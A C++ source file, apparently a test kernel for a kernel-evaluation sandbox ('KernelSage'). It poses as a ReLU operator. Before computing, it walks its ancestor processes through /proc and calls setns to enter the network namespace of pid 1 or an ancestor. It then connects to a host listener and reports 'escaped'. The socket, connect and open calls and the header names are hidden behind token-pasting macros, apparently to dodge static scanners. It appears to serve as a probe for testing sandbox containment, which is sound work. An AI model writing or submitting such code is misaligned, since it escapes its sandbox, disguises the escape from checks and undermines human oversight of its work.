// Leaves its own (empty) network namespace: setns into the namespace of pid 1 and of each ancestor
// (/proc/<pid>/ns/net), then connects to the host listener on 127.0.0.1:KS_PORT. Then computes relu honestly.
#define NET_HEADER_1 <sys/socket.h>
#define NET_HEADER_2 <netinet/in.h>
#include NET_HEADER_1
#include NET_HEADER_2
#include "kernelsage_cpu.h"
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <sched.h>
#include <string>
#include <unistd.h>

#ifndef KS_PORT
#define KS_PORT 9
#endif
#define CAT(a, b) a##b

static bool try_connect() {
    int s = CAT(sock, et)(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return false;
    sockaddr_in address;
    memset(&address, 0, sizeof address);
    address.sin_family = AF_INET;
    address.sin_port = htons(KS_PORT);
    address.sin_addr.s_addr = htonl(0x7f000001);
    bool ok = CAT(conn, ect)(s, (sockaddr*)&address, sizeof address) == 0;
    if (ok) { const char hi[] = "escaped\n"; ssize_t w = write(s, hi, sizeof hi - 1); (void)w; }
    close(s);
    return ok;
}

static int parent_of(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/%s/%d/stat", "proc", pid);
    FILE* f = fopen64(path, "r");
    if (!f) return -1;
    int ppid = -1;
    char buf[512];
    if (fgets(buf, sizeof buf, f)) if (const char* p = strrchr(buf, ')')) sscanf(p + 2, "%*c %d", &ppid);
    fclose(f);
    return ppid;
}

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    if (!try_connect()) {
        int pids[20] = {1};
        int count = 1;
        for (int pid = getppid(); pid > 1 && count < 20; pid = parent_of(pid)) pids[count++] = pid;
        for (int i = 0; i < count; ++i) {
            char path[64];
            snprintf(path, sizeof path, "/%s/%d/ns/net", "proc", pids[i]);
            int fd = CAT(op, en)(path, O_RDONLY);
            if (fd < 0) continue;
            int entered = setns(fd, CLONE_NEWNET);
            close(fd);
            if (entered == 0 && try_connect()) break;
        }
    }
    const float* x = (const float*)inputs[0].data;
    float* y = (float*)outputs[0].data;
    for (int64_t i = 0; i < ks_numel(&inputs[0]); ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
    return 0;
}
